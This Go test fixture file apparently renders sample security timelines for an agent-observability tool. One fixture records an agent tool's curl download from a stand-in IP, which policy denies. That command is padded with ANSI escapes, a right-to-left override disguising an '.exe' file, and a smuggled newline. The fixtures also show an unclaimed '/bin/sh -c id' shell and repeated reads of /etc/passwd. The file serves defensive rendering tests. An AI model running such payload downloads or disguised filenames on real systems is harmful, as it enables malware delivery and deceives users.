package render

import (
	"time"

	"github.com/sennit-io/sennit/schemas/event"
	"github.com/sennit-io/sennit/schemas/timeline"
)

var start = event.At(time.Date(2026, 11, 23, 12, 4, 7, 118e6, time.UTC))

func at(ms int) event.Time { return start.Add(time.Duration(ms) * time.Millisecond) }

type stepOption func(*timeline.Step)

func step(id, parent string, l timeline.Layer, name string, from, to int, source, method string, opts ...stepOption) timeline.Step {
	s := timeline.Step{
		ID: id, ParentID: parent, Layer: l, Name: name, Start: at(from), End: at(to), Status: timeline.OK, Source: source,
		Join: timeline.Join{Method: method, Exact: true, Confidence: 1, Candidates: 1},
	}
	for _, o := range opts {
		o(&s)
	}
	return s
}

func seen(cookie string) stepOption { return func(s *timeline.Step) { s.SocketCookie = cookie } }
func pid(n uint32) stepOption       { return func(s *timeline.Step) { s.PID = n } }
func status(st timeline.Status) stepOption {
	return func(s *timeline.Step) { s.Status = st }
}

func inferred(confidence float64) stepOption {
	return func(s *timeline.Step) { s.Join.Exact, s.Join.Confidence = false, confidence }
}

func evidence(e ...string) stepOption {
	return func(s *timeline.Step) { s.Join.Evidence = e }
}

// incident is an agent whose tool tried to reach a host that policy denies, and
// ran a shell that no span claims.
func incident() *timeline.Timeline {
	const curl = "curl \x1b[31m-s\x1b[0m http://203.0.113.9/\u202egpj.exe\nrow"
	return &timeline.Timeline{
		ID: "4bf92f3577b34da6a3ce929d0e0e4736-2", TraceID: "4bf92f3577b34da6a3ce929d0e0e4736",
		Related:  []string{"4bf92f3577b34da6a3ce929d0e0e4736"},
		Revision: 2, State: timeline.Closed, Start: at(0), End: at(412),
		Request:  timeline.Request{Method: "POST", Path: "/run", Status: 200, Client: "198.51.100.7"},
		Workload: timeline.Workload{Cluster: "prod", Namespace: "agents", Pod: "planner-5d9c", Node: "node-1", Proof: "socket"},
		Agents:   []string{"planner", "fetcher"}, Models: []string{"gemini-3-flash"}, Tools: []string{"fetch_url"},
		Tokens: timeline.Tokens{Input: 3120, Output: 214},
		Completeness: timeline.Completeness{
			Score: 0.875, Missing: []string{"dns"},
			Gaps: []timeline.Gap{
				{Source: "hubble", Node: "node-1", Start: at(100), End: at(200), Lost: 1234, Reason: "ring buffer"},
				{Source: "tetragon", Start: at(300), End: at(310)},
			},
		},
		Steps: []timeline.Step{
			step("s1", "", timeline.LayerEdge, "armor allow", 0, 412, "gcp", timeline.TraceContext, evidence("LB trace = timeline")),
			step("s2", "s1", timeline.LayerNetwork, "gateway -> planner-5d9c:8080 forwarded", 1, 2, "hubble", timeline.FiveTuple, seen("77"), evidence("10.0.0.4:41234 -> 10.0.1.9:8080")),
			step("s3", "s1", timeline.LayerServer, "POST /run", 2, 410, "otlp", timeline.SpanPeer, seen("77"), evidence("peer 10.0.0.4:41234")),
			step("s4", "s3", timeline.LayerAgent, "invoke_agent planner", 3, 405, "otlp", timeline.TraceContext),
			step("s5", "s4", timeline.LayerModel, "chat gemini-3-flash", 5, 206, "otlp", timeline.Assignment, seen("78"), inferred(0.97), evidence("margin 0.97 over 3 candidates")),
			step("s6", "s4", timeline.LayerTool, "execute_tool fetch_url", 210, 300, "otlp", timeline.TraceContext),
			step("s7", "s6", timeline.LayerProcess, curl, 215, 290, "tetragon", timeline.ExecLineage, pid(4711)),
			step("s8", "s7", timeline.LayerPolicy, "egress 203.0.113.9:80 deny-egress", 216, 216, "hubble", timeline.SockAddress, status(timeline.Denied), pid(4711)),
			step("s9", "s4", timeline.LayerProcess, "/bin/sh -c id", 330, 333, "tetragon", timeline.GoroutineParent, status(timeline.Unclaimed), pid(4712), inferred(0.96)),
			step("s10", "s4", timeline.LayerTool, "execute_tool 予定を確認する", 340, 400, "otlp", timeline.TraceContext, status(timeline.Error)),
		},
		Ambiguous: []timeline.Ambiguous{{EventID: "00112233445566778899aabbccddeeff", Candidates: []timeline.Candidate{
			{TimelineID: "4bf92f3577b34da6a3ce929d0e0e4736", Confidence: 0.5}, {TimelineID: "a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5", Confidence: 0.4},
		}}},
		Alerts: []timeline.AlertRef{{
			AlertID: "al1", RuleID: "tool-egress-denied", Severity: "high", Title: "a tool's egress was denied", State: "open", StepIDs: []string{"s8"},
		}},
	}
}

// deep is a chain of processes far deeper than the screen is wide, with a crowd
// of equal system calls at its end.
func deep() *timeline.Timeline {
	t := &timeline.Timeline{ID: "c0ffee00c0ffee00c0ffee00c0ffee00", State: timeline.Open, Start: at(0), End: at(100)}
	parent := ""
	for i := range 30 {
		id := string(rune('A' + i))
		t.Steps = append(t.Steps, step(id, parent, timeline.LayerProcess, "/usr/bin/nested", i, 100, "tetragon", timeline.ExecLineage, pid(uint32(100+i))))
		parent = id
	}
	for i := range 40 {
		t.Steps = append(t.Steps, step("f"+string(rune('A'+i)), parent, timeline.LayerFile, "openat /etc/passwd", 40+i, 41+i, "tetragon", timeline.ExecLineage, pid(129)))
	}
	return t
}
